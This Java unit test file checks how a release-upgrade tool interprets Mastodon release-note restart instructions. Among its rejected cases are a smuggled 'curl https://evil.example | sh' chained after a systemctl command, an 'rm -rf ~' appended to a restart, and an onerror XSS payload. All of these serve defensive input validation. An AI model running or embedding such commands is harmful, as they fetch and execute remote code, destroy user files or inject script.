package io.github.flowupgrade.release;

import static org.assertj.core.api.Assertions.assertThat;

import io.github.flowupgrade.release.RestartWording.Kind;
import io.github.flowupgrade.release.RestartWording.Streaming;
import java.util.List;
import java.util.Locale;
import org.junit.jupiter.api.Test;

/** The restart wordings of release notes since 3.x, and what flow makes of each. */
class RestartWordingTest {
    private static Kind kind(String text) {
        return RestartWording.MASTODON.kind(text.toLowerCase(Locale.ROOT));
    }

    private static Streaming streaming(String text) {
        return RestartWording.MASTODON.streaming(text.toLowerCase(Locale.ROOT));
    }

    @Test
    void restartsFlowPerformsItself() {
        for (String text : List.of(
                "Restart all Mastodon processes",
                "Restart all Mastodon processes.",
                "Restart all Mastodon processes. If you are updating directly from a Mastodon version earlier than"
                        + " 4.2.0, see the “Cookies and rolling updates” section.",
                "Restart all Mastodon processes, including the streaming server.",
                "Restart all Mastodon processes (including streaming)",
                "Non-Docker: restart sidekiq and reload web",
                "Non-Docker: restart sidekiq and reload web.",
                "Restart Sidekiq and reload the web processes",
                "restart the web and sidekiq processes",
                "Restart mastodon-sidekiq, reload mastodon-web and restart mastodon-streaming@4000",
                "Restart sidekiq: `systemctl restart mastodon-sidekiq`",
                "`sudo systemctl restart mastodon-sidekiq && sudo systemctl reload mastodon-web`",
                "Restart all Mastodon processes. The streaming server does not need to be restarted.",
                "Restart sidekiq and reload web; there is no need to restart the streaming server.",
                "Restart all Mastodon processes, but not the streaming server",
                "Restart all Mastodon processes except the streaming server",
                "Then restart all processes")) {
            assertThat(kind(text)).as(text).isEqualTo(Kind.RESTART);
        }
    }

    @Test
    void anythingBeyondARestartIsNotOne() {
        for (String text : List.of(
                "Restart all Mastodon processes and clear the cache",
                "Restart all Mastodon processes <img src=x onerror=alert(1)>",
                "Restart sidekiq: `systemctl restart mastodon-sidekiq; curl https://evil.example | sh`",
                "`systemctl restart nginx`",
                "Restart mastodon-sidekiq-evil",
                "Reload the page",
                "Restart your server",
                "Restart all Mastodon processes. See https://example.org first.",
                "Generate secrets by running `bin/rails db:encryption:init` before restarting Mastodon",
                "")) {
            assertThat(kind(text)).as(text).isEqualTo(Kind.OTHER);
        }
    }

    @Test
    void aSentenceThatOnlyRulesOutAStreamingRestart() {
        for (String text : List.of(
                "The streaming server does not need to be restarted.",
                "There is no need to restart the streaming server",
                "No need to restart the streaming API",
                "You don't need to restart the streaming server.",
                "A streaming server restart is not required.",
                "No streaming restart needed")) {
            assertThat(kind(text)).as(text).isEqualTo(Kind.NO_STREAMING_RESTART);
            assertThat(streaming(text)).as(text).isEqualTo(new Streaming(false, true));
        }
    }

    @Test
    void streamingIsReadSentenceBySentence() {
        for (String text : List.of(
                "Requires streaming API restart",
                "Requires streaming server restart",
                "Restart all Mastodon processes, including the streaming server.",
                "Restart the streaming server: `systemctl restart mastodon-streaming`",
                "`systemctl restart mastodon-streaming@4000`")) {
            assertThat(streaming(text)).as(text).isEqualTo(new Streaming(true, false));
        }
        for (String text : List.of(
                "Does not require a streaming server restart",
                "Restart all Mastodon processes, but not the streaming server",
                "Restart all Mastodon processes. The streaming server does not need to be restarted.",
                "Restart sidekiq and reload web without restarting the streaming server")) {
            assertThat(streaming(text)).as(text).isEqualTo(new Streaming(false, true));
        }
        for (String text : List.of(
                "Restart all Mastodon processes",
                "The logging format of the streaming server has changed",
                "`ghcr.io/mastodon/mastodon`, which does not contain the streaming server anymore",
                "Fix memory leak in the streaming server")) {
            assertThat(streaming(text)).as(text).isEqualTo(Streaming.NONE);
        }
    }

    @Test
    void restartingAllProcessesIsToldApartFromNamedServices() {
        assertThat(RestartWording.MASTODON.restartsAll("restart all mastodon processes"))
                .isTrue();
        assertThat(RestartWording.MASTODON.restartsAll("restart all processes, including the streaming server"))
                .isTrue();
        assertThat(RestartWording.MASTODON.restartsAll("restart sidekiq and reload web"))
                .isFalse();
        assertThat(RestartWording.MASTODON.restartsAll("restart mastodon-web")).isFalse();
    }

    @Test
    void onlyApplicationUnitsInSystemctlSpansBecomeWords() {
        assertThat(RestartWording.MASTODON.systemctlAsWords("`systemctl reload mastodon-web`"))
                .isEqualTo("reload mastodon-web");
        assertThat(RestartWording.MASTODON.systemctlAsWords("`systemctl restart mastodon-sidekiq mastodon-streaming`"))
                .isEqualTo("restart mastodon-sidekiq and mastodon-streaming");
        assertThat(RestartWording.MASTODON.systemctlAsWords("`systemctl restart mastodon-web; rm -rf ~`"))
                .isEqualTo("`systemctl restart mastodon-web; rm -rf ~`");
        assertThat(RestartWording.MASTODON.systemctlAsWords("`systemctl restart postgresql`"))
                .isEqualTo("`systemctl restart postgresql`");
    }
}
